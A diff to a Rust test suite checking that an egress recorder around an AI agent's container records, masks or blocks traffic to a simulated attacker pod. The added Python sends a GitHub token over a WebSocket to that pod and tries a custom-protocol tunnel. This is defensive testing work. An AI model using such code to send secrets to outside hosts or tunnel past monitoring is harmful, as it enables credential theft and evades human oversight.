@@ -24,6 +24,8 @@
 //! | bytes that are not DNS to port 53, UDP and TCP | dropped; recorded as `FORMERR` with what was sent |
 //! | the attacker's pod connects to a listener the agent opened | carried; both directions recorded, masked, as `stream` records of an `inbound` connection; the kubelet's probe of the listener still works |
 //! | UDP from the attacker's pod to a socket the agent bound | dropped |
+//! | a WebSocket to the attacker's pod carrying a secret | carried; each message both ways recorded, masked |
+//! | an upgrade to a protocol of the agent's own (the attacker's server would answer 101) | 403 before the attacker sees the request; recorded as refused |
 //! | the recorder killed mid-session | the kubelet restarts it; while it is down nothing leaves unrecorded; afterwards the agent's requests are recorded again and the recording verifies |
 //!
 //! Needs root and the real node's packages (`make deps`); skips with a message otherwise.
@@ -60,11 +62,46 @@ macro_rules! require_node {
     };
 }
 
-/// The attacker's pod: TCP and UDP listeners on 443 and 53 that print what reaches them.
+/// The attacker's pod: TCP and UDP listeners on 443 and 53 that print what reaches them, and
+/// on port 80 an HTTP server that answers any upgrade with 101: a WebSocket that answers each
+/// message, or a raw tunnel of the agent's own protocol.
 const ATTACKER_SERVER: &str = r#"
-import socket, threading
+import base64, hashlib, socket, threading
 def log(*a):
     print(*a, flush=True)
+def upgrades(c, a):
+    head = b''
+    while b'\r\n\r\n' not in head:
+        d = c.recv(4096)
+        if not d:
+            return
+        head += d
+    lines = head.decode('latin1').split('\r\n')
+    field = lambda n: [l.split(':', 1)[1].strip() for l in lines if l.lower().startswith(n + ':')]
+    log('http 80 from', a[0], lines[0], 'upgrade', field('upgrade'))
+    key = field('sec-websocket-key')
+    if not key:
+        c.sendall(b'HTTP/1.1 101 Switching Protocols\r\nUpgrade: attacker-tunnel\r\nConnection: Upgrade\r\n\r\n')
+        log('tunnel got', c.recv(4096))
+        return
+    accept = base64.b64encode(hashlib.sha1((key[0] + '258EAFA5-E914-47DA-95CA-C5AB0DC85B11').encode()).digest())
+    c.sendall(b'HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Accept: ' + accept + b'\r\n\r\n')
+    b0, b1 = c.recv(1)[0], c.recv(1)[0]
+    mask = c.recv(4)
+    data = b''
+    while len(data) < b1 & 0x7f:
+        data += c.recv((b1 & 0x7f) - len(data))
+    text = bytes(b ^ mask[i % 4] for i, b in enumerate(data))
+    log('ws got', text)
+    reply = b'attacker got ' + text
+    c.sendall(bytes([0x81, len(reply)]) + reply)
+def http(port):
+    s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+    s.bind(('0.0.0.0', port)); s.listen(16)
+    while True:
+        c, a = s.accept()
+        threading.Thread(target=upgrades, args=(c, a), daemon=True).start()
+threading.Thread(target=http, args=(80,), daemon=True).start()
 def tcp(port):
     s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
     s.bind(('0.0.0.0', port)); s.listen(16)
@@ -163,6 +200,40 @@ try:
     print('tcp answered', t.recv(4096))
 except OSError as e:
     print('tcp no answer:', e)
+"#;
+
+/// In the agent's container: a WebSocket to the attacker's pod carrying a secret, then an
+/// upgrade to a protocol of the agent's own.
+const UPGRADES: &str = r#"
+import base64, os, socket, sys
+ip, secret = sys.argv[1], sys.argv[2]
+def upgrade(protocol, websocket):
+    s = socket.create_connection((ip, 80), timeout=10)
+    head = 'GET /chat HTTP/1.1\r\nHost: %s\r\nUpgrade: %s\r\nConnection: Upgrade\r\n' % (ip, protocol)
+    if websocket:
+        head += 'Sec-WebSocket-Key: %s\r\nSec-WebSocket-Version: 13\r\n' % base64.b64encode(os.urandom(16)).decode()
+    s.sendall((head + '\r\n').encode())
+    answer = b''
+    while b'\r\n\r\n' not in answer:
+        d = s.recv(4096)
+        if not d:
+            break
+        answer += d
+    print(protocol, 'answered', answer.split(b'\r\n')[0].decode(errors='replace'), flush=True)
+    return s, answer
+s, answer = upgrade('websocket', True)
+if b' 101 ' in answer.split(b'\r\n')[0]:
+    payload = ('agent says ' + secret).encode()
+    mask = os.urandom(4)
+    s.sendall(bytes([0x81, 0x80 | len(payload)]) + mask + bytes(b ^ mask[i % 4] for i, b in enumerate(payload)))
+    b0, b1 = s.recv(1)[0], s.recv(1)[0]
+    data = b''
+    while len(data) < b1 & 0x7f:
+        data += s.recv((b1 & 0x7f) - len(data))
+    print('ws reply', data.decode(), flush=True)
+s.close()
+s, answer = upgrade('attacker-tunnel', False)
+s.close()
 "#;
 
 /// From the attacker's pod: a line to the agent's listener, the answer printed; then UDP.
@@ -615,6 +686,25 @@ async fn the_ways_around_the_recorder_are_closed_on_a_real_node() -> Result<()> 
          not DNS: {not_dns}"
     );
 
+    // Upgrades to the attacker's pod: a WebSocket is carried and read; a protocol of the
+    // agent's own is refused before the attacker hears of it.
+    let upgraded = agent(&["python3", "-c", UPGRADES, &attacker_ip, GITHUB_TOKEN])?;
+    assert!(
+        upgraded.contains("websocket answered HTTP/1.1 101")
+            && upgraded.contains(&format!("ws reply attacker got agent says {GITHUB_TOKEN}")),
+        "the WebSocket to the attacker: {upgraded}"
+    );
+    assert!(
+        upgraded.contains("attacker-tunnel answered HTTP/1.1 403"),
+        "the agent's own upgrade: {upgraded}"
+    );
+    let attacker_heard = logs(ATTACKER_NAMESPACE, ATTACKER, "server");
+    assert!(
+        attacker_heard.contains("upgrade ['websocket']")
+            && !attacker_heard.contains("attacker-tunnel"),
+        "what the attacker's server saw: {attacker_heard}"
+    );
+
     // The recorder killed under the agent: the kubelet restarts it. Nothing leaves while it is
     // down, and what the agent sends afterwards is recorded again.
     let before = pod_json(story::NAMESPACE, AGENT)?;
@@ -797,7 +887,27 @@ async fn the_ways_around_the_recorder_are_closed_on_a_real_node() -> Result<()> 
     let whole = serde_json::to_string(&records)?;
     assert!(!whole.contains(API_KEY) && !whole.contains(GITHUB_TOKEN) && !whole.contains(&real));
 
+    let messages = kinds(&records, "message");
+    let said_by = |direction: &str| -> String {
+        messages
+            .iter()
+            .filter(|m| m["direction"] == direction && m["opcode"] == "text")
+            .filter_map(|m| m["text"].as_str())
+            .collect()
+    };
+    assert!(
+        said_by("up").contains("agent says «masked:github-token:")
+            && said_by("down").contains("attacker got agent says «masked:github-token:"),
+        "the WebSocket's messages are not recorded, masked: {messages:#?}"
+    );
     let blocked = kinds(&records, "blocked");
+    assert!(
+        blocked.iter().any(|b| b["reason"] == "upgrade"
+            && b["message"]
+                .as_str()
+                .is_some_and(|m| m.contains("attacker-tunnel"))),
+        "the agent's own upgrade is not recorded as refused: {blocked:#?}"
+    );
     assert!(
         blocked.iter().any(|b| b["reason"] == "destination"
             && b["message"].as_str().is_some_and(
